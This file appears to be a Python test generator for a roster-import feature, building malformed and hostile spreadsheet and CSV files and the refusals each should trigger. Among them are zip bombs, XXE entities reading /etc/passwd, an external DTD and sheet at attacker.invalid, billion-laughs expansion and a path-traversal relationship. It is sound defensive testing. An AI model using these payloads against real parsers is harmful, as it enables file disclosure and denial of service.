# SPDX-FileCopyrightText: 2026 CircuitDesk contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Files that are no roster, and files that attack whoever reads them."""
import os
import random
import zlib

from importcorpus import LI, PEOPLE, ZH, expect, file, folder, spoken
from xlsxparts import DECLARATION, central, number, packed, parts_of, relations, shared, sheet_of


def other_formats():
    ole = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + b'\0' * 504
    file('old.xls', ole + 'Workbook'.encode('utf-16-le') + b'\0' * 512, refusal='OldWorkbook')
    file('password.xlsx', ole + 'EncryptedPackage'.encode('utf-16-le') + b'\0' * 512, refusal='Encrypted')
    file('roster.ods', packed({'mimetype': b'application/vnd.oasis.opendocument.spreadsheet',
                               'content.xml': '<office/>'}), refusal='OtherFormat')
    file('letter.docx', packed({'_rels/.rels': relations([('rId1', 'officeDocument', 'word/document.xml')]),
                                'word/document.xml': '<w/>'}), refusal='OtherFormat')
    file('binary.xlsb', packed({'_rels/.rels': relations([('rId1', 'officeDocument', 'xl/workbook.bin')]),
                                'xl/workbook.bin': b'\x83\x01'}), refusal='OtherFormat')
    file('any.zip', packed({'a.txt': b'a'}), refusal='OtherFormat')
    file('empty.zip', b'PK\x05\x06' + b'\0' * 18, refusal='OtherFormat')
    file('report.pdf', b'%PDF-1.7\nsome text\n', refusal='OtherFormat')
    file('page.xls', '<html><table><tr><td>李雷</td></tr></table></html>'.encode(), refusal='OtherFormat')
    file('xml-2003.xls', b'<?xml version="1.0"?><Workbook/>', refusal='OtherFormat')
    file('letter.rtf', b'{\\rtf1 hello}', refusal='OtherFormat')
    file('picture.csv', b'\x89PNG\r\n\x1a\n\0\0\0\rIHDR' + bytes(range(256)), refusal='NotText')
    file('packed.csv.gz', b'\x1f\x8b\x08\0' + zlib.compress(b'a,b'), refusal='NotText')
    generator = random.Random(7)
    file('noise.csv', bytes(generator.randrange(256) for _ in range(5000)), refusal='NotText')
    file('nothing.csv', b'', refusal='Empty')
    file('only-a-mark.csv', b'\xef\xbb\xbf', refusal='Empty')
    file('only-space.csv', b' \r\n\t\r\n , ,\r\n', refusal='Empty')
    file('latin-1.csv', 'Name,Phone\nJosé,13900000101\n'.encode('latin-1'), refusal='NotText')
    file('broken-utf-8.csv', b'\xef\xbb\xbfName,Phone\nLi\xff\xfe,139\n', refusal='NotText')
    file('lone-surrogate-utf-8.csv', b'Name,Phone\nLi\xed\xa0\x80,139\n', refusal='NotText')
    file('lone-surrogate-utf-16.csv', b'\xff\xfe' + 'Name,Phone\nLi'.encode('utf-16-le') + b'\x00\xd8' + ',1\n'.encode('utf-16-le'),
         refusal='NotText')
    file('odd-utf-16.csv', 'Name,Phone\nLi,1\n'.encode('utf-16') + b'x', refusal='NotText')
    file('null.csv', b'Name,Phone\nLi\0Lei,13900000101\n', refusal='NotText')
    file('large.csv', b'a,b\n' * 600_000, refusal='TooLarge')
    file('line-ends.csv', b'\n' * 2_000_000, refusal='TooManyRows')
    file('quotes.csv', b'"' * 2_000_001, [['', '', '', '', '']], [[0, 'PMName', 'TooLong']])
    file('separators.csv', b',' * 2_000_000, refusal='TooManyColumns')
    os.mkdir(os.path.join(folder, 'folder.csv'))
    expect('folder.csv', refusal='NotAFile')
    expect('missing.csv', refusal='NotAFile')
    os.mkfifo(os.path.join(folder, 'pipe.csv'))
    expect('pipe.csv', refusal='NotAFile')
    os.symlink('/dev/zero', os.path.join(folder, 'device.csv'))
    expect('device.csv', refusal='NotAFile')
    with open(os.path.join(folder, 'sparse.csv'), 'wb') as out:
        out.truncate(1 << 40)
    expect('sparse.csv', refusal='TooLarge')


def attacks():
    rows = [ZH] + [spoken(p, 'zh') for p in PEOPLE]
    good = packed(parts_of(sheet_of(rows)))
    part = 'xl/worksheets/sheet1.xml'

    def with_part(name, content):
        parts = parts_of(sheet_of(rows))
        parts[name] = content
        return packed(parts)

    bomb = sheet_of(rows).encode()[:-40] + b' ' * (40 * 1024 * 1024)
    file('bomb-declared.xlsx', with_part(part, bomb), refusal='TooLarge')
    file('bomb-said-to-be-small.xlsx', central(with_part(part, bomb), part, 24, 100, local=22), refusal='TooLarge')
    # All parts are counted together.
    half = b'<x>' + b' ' * (20 * 1024 * 1024) + b'</x>'
    parts = parts_of(sheet_of(rows), strings='')
    parts['xl/sharedStrings.xml'] = parts['xl/styles.xml'] = half
    file('bomb-in-two-parts.xlsx', packed(parts), refusal='TooLarge')
    nested = packed({'inner.xlsx': packed({'a': b'\0' * 10_000_000})})
    file('bomb-nested.xlsx', with_part('xl/embeddings/nested.xlsx', nested), PEOPLE)
    file('bomb-strings.xlsx', packed(parts_of(sheet_of(rows), strings=shared(['<t/></si><si>' * 300_000]))), refusal='TooLarge')
    file('said-to-be-4-gib.xlsx', central(good, part, 24, 0xfffffff0), refusal='TooLarge')
    file('said-to-be-longer.xlsx', central(good, part, 24, 1_000_000), PEOPLE)
    file('wrong-checksum.xlsx', central(good, part, 16, 12345), refusal='Damaged')
    file('wrong-packed-size.xlsx', central(good, part, 20, 0x7fffff00), PEOPLE)
    file('wrong-offset.xlsx', central(good, part, 42, 0x7ffffff0), refusal='Damaged')
    file('wrong-method.xlsx', central(good, part, 10, 97, 2), refusal='Damaged')
    file('encrypted-part.xlsx', central(central(good, part, 8, 1, 2, local=6), 'xl/workbook.xml', 8, 1, 2, local=6), refusal='Encrypted')
    for index, length in enumerate((30, len(good) // 4, len(good) // 2, len(good) - 100, len(good) - 10, len(good) - 1)):
        file('truncated-%d.xlsx' % index, good[:length], refusal='Damaged')
    file('trailing-garbage.xlsx', good + b'garbage', PEOPLE)

    def xml(name, content, **expected):
        file('xml-%s.xlsx' % name, with_part(part, content), **expected)

    body = sheet_of(rows)
    xml('external-entity', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + body.replace('李雷', '&e;'), refusal='Damaged')
    xml('external-doctype', '<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">' + body, refusal='Damaged')
    laughs = ''.join('<!ENTITY l%d "%s">' % (i + 1, ('&l%d;' % i) * 10) for i in range(9))
    xml('billion-laughs', '<!DOCTYPE x [<!ENTITY l0 "ha">%s]>%s' % (laughs, body.replace('李雷', '&l9;')), refusal='Damaged')
    xml('unknown-entity', body.replace('李雷', '&nosuch;'), refusal='Damaged')
    xml('many-attributes', body.replace('<sheetData>', '<sheetData %s>' % ' '.join('a%d=">"' % i for i in range(200_000))),
        refusal='Damaged')
    xml('deep', body.replace('<sheetData>', '<a>' * 3_000_000), refusal='Damaged')
    xml('deep-in-cell', body.replace('<is>', '<is>' + '<a>' * 1_000_000, 1), refusal='Damaged')
    xml('long-name', body.replace('<sheetData>', '<%s/><sheetData>' % ('a' * 1_000_000)), refusal='Damaged')
    xml('not-xml', 'Name,Phone', refusal='Damaged')
    xml('cut-off', body[:len(body) // 2], refusal='Damaged')
    xml('null', body.replace('李雷', '李\0雷'), refusal='Damaged')
    xml('null-reference', body.replace('李雷', '李&#0;雷'), refusal='Damaged')
    xml('broken-utf-8', (DECLARATION + body).encode().replace('李雷'.encode(), b'\xe6\x9d'), refusal='Damaged')
    xml('says-it-is-gbk', ('<?xml version="1.0" encoding="GBK"?>' + body).encode(), people=PEOPLE)
    xml('comment', body.replace('<sheetData>', '<!-- <!DOCTYPE x> <c r="A1"> --><sheetData>'), people=PEOPLE)
    xml('empty', b'', refusal='Damaged')
    xml('negative-row', body.replace('<row r="2">', '<row r="-2">'), refusal='Damaged')
    xml('row-zero', body.replace('r="A2"', 'r="A0"'), refusal='Damaged')
    xml('huge-row', body.replace('r="A2"', 'r="A99999999999"'), refusal='Damaged')
    xml('huge-column', body.replace('r="A2"', 'r="ZZZZZZZZ2"'), refusal='Damaged')
    xml('no-such-string', body.replace('t="inlineStr"><is><t>李雷</t></is>', 't="s"><v>4000000000</v>'), refusal='Damaged')
    xml('negative-string', body.replace('t="inlineStr"><is><t>李雷</t></is>', 't="s"><v>-1</v>'), refusal='Damaged')
    xml('merged-all', body.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="F1:XFD1048576"/></mergeCells>'), people=PEOPLE)
    xml('merged-often', body.replace('</sheetData>', '</sheetData><mergeCells>%s</mergeCells>' % (
        '<mergeCell ref="A1:XFD1048576"/>' * 50_000)), refusal='Damaged')
    xml('merged-nonsense', body.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="x"/></mergeCells>'), refusal='Damaged')
    huge = '9' * 300 + 'E+999'
    xml('huge-number', sheet_of([ZH, [*spoken(LI, 'zh')[:4], number(huge)]]), people=[[*LI[:4], '']],
        refused=[[0, 'PMContactInfo', 'TooLong']])
    xml('huge-exponent', sheet_of([ZH, [*spoken(LI, 'zh')[:4], number('1E+999')]]), people=[[*LI[:4], '']],
        refused=[[0, 'PMContactInfo', 'TooLong']])
    file('no-sheet-part.xlsx', packed({k: v for k, v in parts_of(sheet_of(rows)).items() if k != part}), refusal='Damaged')
    file('no-workbook.xlsx', packed({k: v for k, v in parts_of(sheet_of(rows)).items() if k != 'xl/workbook.xml'}), refusal='Damaged')
    file('path-outside.xlsx', with_part('xl/_rels/workbook.xml.rels', relations(
        [('rId1', 'worksheet', '../../../../../../etc/passwd')])), refusal='Damaged')
    file('external-sheet.xlsx', with_part('xl/_rels/workbook.xml.rels', relations(
        [('rId1', 'worksheet', 'http://attacker.invalid/sheet.xml')]).replace('/>', ' TargetMode="External"/>', 1)), refusal='Empty')
    file('sheet-is-the-workbook.xlsx', with_part('xl/_rels/workbook.xml.rels', relations(
        [('rId1', 'worksheet', 'workbook.xml')])), refusal='Empty')
